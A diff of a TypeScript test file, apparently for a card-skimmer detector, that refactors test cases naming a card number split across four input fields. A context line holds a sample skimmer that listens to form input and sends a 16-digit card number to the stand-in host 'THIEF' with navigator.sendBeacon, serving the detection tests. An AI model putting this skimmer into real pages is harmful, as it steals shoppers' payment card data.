@@ -1,3 +1,4 @@
+import { atDepth } from '@tillwatch/testbed/depth'
 import { describe, expect, it } from 'vitest'
 import { browser, shareBrowser } from './shared-browser.ts'
 import { watchPage } from './watch-page.ts'
@@ -13,20 +14,23 @@ const skimmer = `document.addEventListener('input', function take() {
   if (card.length === 16) navigator.sendBeacon('http://THIEF/c', card)
 })`
 
+/** Ways to name four fields: the short form has three that differ most. */
+const named: [by: string, group: string][] = [
+  ['a legend', `<fieldset><legend>Card number</legend>${four()}</fieldset>`],
+  ['a label for the first field', `<label for=one>Card number</label><div>${four((at) => (at === 1 ? 'id=one' : ''))}</div>`],
+  ['what each says of itself', `<div>${four((at) => `aria-label="Card number, digits ${at * 4 - 3} to ${at * 4}"`)}</div>`],
+  ['a legend over a row', `<fieldset><legend>Número de tarjeta</legend><div class=row>${four()}</div></fieldset>`],
+  ['the group’s name', `<div role=group aria-label="Kartennummer">${four()}</div>`],
+  [
+    'an element that names the group',
+    `<p id=said>Card number</p><hr><div><span>x</span></div><div role=group aria-labelledby=said>${four()}</div>`,
+  ],
+  ['a heading beside', `<div><h3>Card number</h3><div>${four()}</div></div>`],
+  ['their names', `<div>${four().replaceAll('name="x', 'name="cc')}</div>`],
+]
+
 describe('a card number in four fields', () => {
-  it.each([
-    ['a legend', `<fieldset><legend>Card number</legend>${four()}</fieldset>`],
-    ['a legend over a row', `<fieldset><legend>Número de tarjeta</legend><div class=row>${four()}</div></fieldset>`],
-    ['the group’s name', `<div role=group aria-label="Kartennummer">${four()}</div>`],
-    [
-      'an element that names the group',
-      `<p id=said>Card number</p><hr><div><span>x</span></div><div role=group aria-labelledby=said>${four()}</div>`,
-    ],
-    ['a label for the first field', `<label for=one>Card number</label><div>${four((at) => (at === 1 ? 'id=one' : ''))}</div>`],
-    ['a heading beside', `<div><h3>Card number</h3><div>${four()}</div></div>`],
-    ['their names', `<div>${four().replaceAll('name="x', 'name="cc')}</div>`],
-    ['what each says of itself', `<div>${four((at) => `aria-label="Card number, digits ${at * 4 - 3} to ${at * 4}"`)}</div>`],
-  ])('is known by %s, typed into its fields, and found where it leaves', async (_by, group) => {
+  it.each(atDepth(named.slice(0, 3), named))('is known by %s, typed into its fields, and found where it leaves', async (_by, group) => {
     const body = `<form action="/pay" method="post">${group}<label>Security code <input name=cvc maxlength=4></label><button>Pay</button></form>`
     const { capture, canary, thiefHost } = await watchPage(browser, { body, shop, skimmer })
     const parts = capture.fields.filter(({ kind }) => kind === 'card-number')
